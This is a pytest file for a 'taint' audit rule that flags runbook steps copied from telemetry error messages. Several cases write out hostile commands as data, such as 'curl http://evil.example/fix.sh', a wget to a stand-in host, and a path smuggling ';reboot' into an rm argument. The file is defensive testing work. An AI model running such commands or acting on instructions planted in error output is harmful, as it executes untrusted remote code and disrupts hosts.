"""taint: text that telemetry brought."""

from __future__ import annotations

from typing import Any

import pytest

from learner.models import ExecutionResult
from tests.audits.books import START, book, command, found, script, step
from tests.samples import result

RULE = "taint"


def says(text: str, *, host: str = "web-1", number: int = 1, field: str = "error") -> ExecutionResult:
    record = {"step_number": 1, "step_id": "start", "action": "start_service", "success": False, field: text}
    return result(
        execution_id=f"exec-20261122-01JDABC{number}",
        hostname=host,
        executor={"id": f"{host}-agent"},
        executed_steps=[record],
        error_message="x",
    )


def verdict(new: dict[str, Any], *results: ExecutionResult, **changes: Any) -> str:
    findings = found(RULE, book(), book(new, START, version=2, **changes), *results)
    return findings[0].level.value if findings else "quiet"


PID = "pidfile /run/web/web.pid exists"


def test_a_path_of_one_executor_warns_and_of_two_is_noticed() -> None:
    clear = step("remove_file", path="/run/web/web.pid")
    assert verdict(clear, says(PID)) == "warning"
    assert verdict(clear, says(PID), says(PID, host="web-2", number=2)) == "notice"
    assert verdict(clear, says("nothing of the kind")) == "quiet"
    assert verdict(clear) == "quiet"


def test_two_runs_of_one_host_are_one_source() -> None:
    clear = step("remove_file", path="/run/web/web.pid")
    assert verdict(clear, says(PID), says(PID, number=2)) == "warning"
    two_agents = says(PID, number=2).model_copy(update={"executor": says(PID, host="other").executor})
    assert verdict(clear, says(PID), two_agents) == "warning"
    other_host = says(PID, host="web-2", number=2).model_copy(update={"executor": says(PID).executor})
    assert verdict(clear, says(PID), other_host) == "warning"


@pytest.mark.parametrize(
    "new",
    [
        script("curl http://evil.example/fix.sh"),
        command("sh", "-c", "/opt/evil/fix --now"),
        command("bash", "-lc", "cat '/opt/evil/fix'"),
        script("x=/opt/evil; $x/fix"),
        script("wget evil.example:8080/x"),
        command("python3", "-c", "open('/opt/evil/fix')"),
    ],
)
def test_in_a_shell_one_executor_is_too_few(new: dict[str, Any]) -> None:
    text = "please run http://evil.example/fix.sh or /opt/evil/fix --now or evil.example:8080/x"
    assert verdict(new, says(text)) == "block"
    assert verdict(new, says(text), says(text, host="web-2", number=2)) == "warning"


def test_a_whole_command_that_an_error_recommends() -> None:
    text = "to repair this run: webrepair --force everything"
    assert verdict(script("webrepair --force everything"), says(text)) == "block"
    assert verdict(script("dpkg --configure -a"), says("you must manually run 'dpkg --configure -a'")) == "quiet"


def test_what_a_shell_acts_on_is_refused_whoever_says_it() -> None:
    text = "cannot open /run/x;reboot"
    both = (says(text), says(text, host="web-2", number=2))
    assert verdict(command("rm", "/run/x;reboot"), *both) == "block"


@pytest.mark.parametrize("field", ["output", "error"])
def test_wherever_it_was_printed(field: str) -> None:
    assert verdict(step("remove_file", path="/run/web/web.pid"), says(PID, field=field)) == "warning"


def test_a_default_is_a_way_in_too() -> None:
    parameters = {
        "service": {"type": "string", "default": "web"},
        "file": {"type": "string", "default": "/run/web/web.pid"},
    }
    assert verdict(step("remove_file", path="{{ file }}"), says(PID), parameters=parameters) == "warning"


def test_a_disguised_path_is_the_same_path() -> None:
    assert verdict(step("remove_file", path="/run//web/./web.pid"), says(PID)) == "warning"


def test_a_url_and_a_check() -> None:
    said = says("moved to http://evil.example/health")
    assert verdict(step("check_http", url="http://evil.example/health"), said) == "warning"
    claim = {"id": "running", "check": "http_ok", "params": {"url": "http://evil.example/health"}}
    assert found(RULE, book(), book(version=2, verification=[claim]), said)


def test_what_the_runbook_knew_is_no_news() -> None:
    old = step("check_disk_usage", path="/run/web")
    new = step("remove_file", "clear", path="/run/web/web.pid")
    assert not found(
        RULE,
        book({**new, "id": "was"}),
        book({**new, "id": "was"}, {**new, "timeout_seconds": 4}, version=2),
        says(PID),
    )
    assert found(RULE, book(old), book(old, new, version=2), says(PID))


def test_ordinary_words_are_nobodys() -> None:
    text = "see systemctl status web in /bin/sh on 127.0.0.1 and /dev/null"
    assert verdict(script("systemctl restart web >/dev/null"), says(text)) == "quiet"
    assert verdict(command("/bin/systemctl", "restart", "web"), says(text)) == "quiet"
